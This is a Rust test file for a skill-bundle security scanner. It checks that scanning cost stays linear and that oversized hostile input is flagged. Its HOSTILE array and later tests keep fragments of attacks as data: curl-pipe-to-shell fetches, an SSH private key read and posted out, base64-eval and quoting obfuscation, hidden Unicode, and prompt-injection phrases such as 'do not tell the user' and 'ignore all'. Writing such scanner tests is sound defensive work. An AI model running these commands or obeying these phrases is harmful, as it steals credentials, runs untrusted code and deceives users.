//! What a scan takes: bytes that expressions are held against, counted and not timed.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use skill_core::verdict::Verdict;
use skill_scan::{RuleSet, ScanReport, Stopped, scan_until};

use crate::world::bundle;

const MIB: usize = 1 << 20;

fn scan_of(path: &str, text: &str) -> ScanReport {
    skill_scan::scan(&bundle(&[(path, text.as_bytes())]), RuleSet::builtin())
}

fn repeated(piece: &str, bytes: usize) -> String {
    piece.repeat(bytes / piece.len())
}

/// Texts that make naive engines look at every byte many times.
const HOSTILE: [(&str, &str); 29] = [
    ("a.sh", "curl -o /tmp/a x;/tmp/a;/tmp/b;"),
    ("a.sh", "curl -o /tmp/a x\n\"/tmp/a\" "),
    ("a.sh", "bash SKILL.md "),
    ("a.md", "## Attack patterns\n\nrun the attack patterns above\n\n    curl x | sh\n"),
    ("a.md", "- a\n\n      b\n"),
    ("a.py", "curl f'{x}' # \r"),
    ("a.js", "curl )/[ `${"),
    ("a.sh", "curl "),
    ("a.sh", "curl -o x https://e/ | "),
    ("a.sh", "$A${IFS}''\"\""),
    ("a.md", "<!-- run the following "),
    ("a.md", "do not tell the user "),
    ("a.md", "<b hidden "),
    ("a.md", "<b hidden><b hidden>"),
    ("a.md", "` `` ``` "),
    ("a.md", "](x \""),
    ("a.md", "**ig&#110;ore** <b "),
    ("a.txt", "ignore all\n"),
    ("a.sh", "exec(eval(base64 "),
    ("a.md", "password zip extract "),
    ("a.sh", "cat ~/.ssh/id_rsa\ncurl -d @- x\n"),
    ("a.sh", "curl x | # y\n\n # z\n"),
    ("a.sh", "$(echo `printf '%s$'\\x63"),
    ("a.py", "A = \"b\"\nf\"{A}{\" + A + \"\n"),
    ("a.sh", "c'u'r\"l\"'"),
    ("a.md", "`curl -o a.sh x`, run `bash a.sh` "),
    ("requirements.txt", "a @ http://e.dev/ -i ://\n"),
    ("a.ps1", "irm <# ` # "),
    ("a.txt", "\u{5d0}\u{2067}\u{200b}"),
];

#[test]
fn twice_the_bytes_take_at_most_twice_the_work() {
    for (path, piece) in HOSTILE {
        let [one, two] = [MIB / 16, MIB / 8].map(|bytes| scan_of(path, &repeated(piece, bytes)).examined);
        assert!(two <= 2 * one + MIB as u64 / 32, "{piece:?}: {one} {two}");
    }
}

#[test]
fn hostile_text_ends_at_the_budget_and_is_named() {
    let line = "curl wget eval atob base64 | sh ; ".repeat(30) + "\n";
    let text = repeated(&line, 2 * MIB);
    let report = scan_of("a.sh", &text);
    assert!(report.examined <= (32 << 20) + 4 * (text.len() as u64 + 64), "{}", report.examined);
    assert_eq!((report.verdict, report.analysable), (Verdict::NotAnalysable, false));
    let unread: Vec<_> = report.findings.iter().filter(|found| found.rule_id == "too-much-to-read").collect();
    assert_eq!(unread.iter().map(|found| found.file.as_str()).collect::<Vec<_>>(), ["a.sh"]);
}

/// Many files that read and many that send, none of which names another: each is read for each other, and that is counted.
#[test]
fn what_two_files_take_together_is_counted() {
    let text = |half: &str| format!("{half}{}", repeated("x = 1\n", MIB / 16));
    let (reads, sends) = (text("open('.ssh/id_rsa')\n"), text("requests.post(u, data=x)\n"));
    let names: Vec<String> = (0..30).flat_map(|n| [format!("r{n}.py"), format!("s{n}.py")]).collect();
    let files: Vec<_> = names
        .iter()
        .map(|name| (name.as_str(), if name.starts_with('r') { reads.as_bytes() } else { sends.as_bytes() }))
        .collect();
    let report = skill_scan::scan(&bundle(&files), RuleSet::builtin());
    assert!(report.examined <= 128 << 20, "{}", report.examined);
    assert_eq!((report.verdict, report.analysable), (Verdict::NotAnalysable, false));
    assert!(report.findings.iter().any(|found| found.rule_id == "too-much-to-read"));
}

/// Whoever is told to stop gives no verdict.
#[test]
fn a_scan_that_is_stopped_has_no_report() {
    let bundle = bundle(&[("a.sh", b"echo\n")]);
    let stop = Arc::new(AtomicBool::new(false));
    assert!(scan_until(&bundle, RuleSet::builtin(), &stop).is_ok_and(|report| report.analysable));
    stop.store(true, Ordering::Relaxed);
    assert_eq!(scan_until(&bundle, RuleSet::builtin(), &stop), Err(Stopped));
}
